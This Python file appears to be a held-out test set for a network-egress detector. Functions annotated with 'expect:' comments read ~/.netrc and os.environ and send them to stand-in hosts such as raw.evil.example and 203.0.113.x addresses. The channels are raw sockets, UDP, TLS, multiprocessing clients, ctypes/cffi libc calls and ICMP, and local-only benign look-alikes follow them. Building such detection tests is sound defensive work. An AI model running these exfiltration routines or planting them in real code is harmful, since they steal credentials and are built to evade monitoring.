# Held-out evasion set: low-level channels (raw sockets, FFI calls into libc, IPC clients that reach
# other hosts, TLS wrapping) and the local-only look-alikes. Never executed.
import ctypes
import ctypes.util
import os
import socket
import ssl
import struct
from multiprocessing.connection import Client

import cffi

LOOT = open(os.path.expanduser("~/.netrc"), "rb").read()


def raw_http_post():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    # expect: egress host=raw.evil.example
    s.connect(("raw.evil.example", 80))
    # expect: egress host=raw.evil.example
    s.send(b"POST /c HTTP/1.1\r\nHost: raw.evil.example\r\n\r\n" + LOOT)


def sendall_after_create_connection():
    # expect: egress host=203.0.113.50
    conn = socket.create_connection(("203.0.113.50", 8443))
    # expect: egress host=203.0.113.50
    conn.sendall(LOOT)


def udp_sendto():
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    # expect: egress host=203.0.113.51
    u.sendto(LOOT[:512], ("203.0.113.51", 53))


def udp_connected_send():
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    # connect() on a datagram socket sends no packet; the send below does.
    # expect: none
    u.connect(("203.0.113.52", 5353))
    # expect: egress host=203.0.113.52
    u.send(LOOT[:512])


def tls_wrapped():
    ctx = ssl.create_default_context()
    tls = ctx.wrap_socket(socket.socket(), server_hostname="tls.evil.example")
    # expect: egress host=tls.evil.example
    tls.connect(("tls.evil.example", 443))


def legacy_wrap_socket():
    # expect: egress host=203.0.113.53
    ssl.wrap_socket(socket.socket()).connect(("203.0.113.53", 443))


def mp_client():
    # expect: egress host=203.0.113.54
    c = Client(("203.0.113.54", 6000), authkey=b"k")
    # expect: egress host=203.0.113.54
    c.send({"env": dict(os.environ)})


def ctypes_libc_connect():
    libc = ctypes.CDLL(ctypes.util.find_library("c"))
    fd = libc.socket(2, 1, 0)
    addr = struct.pack("!HH4s8x", 2, 4446, socket.inet_aton("203.0.113.55"))
    # expect: egress
    libc.connect(fd, addr, len(addr))
    # expect: egress
    libc.send(fd, LOOT, len(LOOT), 0)


def ctypes_sendto():
    libc = ctypes.CDLL("libc.so.6")
    fd = libc.socket(2, 2, 0)
    addr = struct.pack("!HH4s8x", 2, 53, socket.inet_aton("203.0.113.56"))
    # expect: egress
    libc.sendto(fd, LOOT, len(LOOT), 0, addr, len(addr))


def cffi_connect():
    ffi = cffi.FFI()
    ffi.cdef("int socket(int, int, int); int connect(int, const void *, unsigned int);")
    lib = ffi.dlopen(None)
    fd = lib.socket(2, 1, 0)
    addr = struct.pack("!HH4s8x", 2, 4447, socket.inet_aton("203.0.113.57"))
    # expect: egress
    lib.connect(fd, addr, len(addr))


def raw_icmp():
    # expect: egress
    icmp = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    # expect: egress host=203.0.113.58
    icmp.sendto(b"\x08\x00" + LOOT[:56], ("203.0.113.58", 0))


# ---- look-alikes: sockets that never leave the machine, or send nothing ----


def benign_local_address():
    probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    # expect: none
    probe.connect(("8.8.8.8", 80))
    return probe.getsockname()[0]


def benign_local_address_inline():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        # expect: none
        s.connect(("1.1.1.1", 53))
        return s.getsockname()[0]


def benign_unix_socket():
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    # expect: none
    s.connect("/run/app.sock")
    # expect: none
    s.sendall(b"ping")


def benign_loopback():
    s = socket.create_connection(("127.0.0.1", 8080))
    # expect: none
    s.sendall(b"GET / HTTP/1.0\r\n\r\n")


def benign_server():
    srv = socket.socket()
    # expect: none
    srv.bind(("0.0.0.0", 8000))
    srv.listen()


def benign_mp_local_client():
    # expect: none
    return Client("/tmp/worker.sock", family="AF_UNIX")


def benign_ctypes_strlen():
    libc = ctypes.CDLL(ctypes.util.find_library("c"))
    # expect: none
    return libc.strlen(b"connect")


def benign_cffi_math():
    ffi = cffi.FFI()
    ffi.cdef("double sqrt(double);")
    # expect: none
    return ffi.dlopen(None).sqrt(2.0)


def benign_socketpair():
    a, b = socket.socketpair()
    # expect: none
    a.sendall(b"local only")
    return b.recv(10)


def benign_hostname():
    # expect: none
    return socket.gethostname()
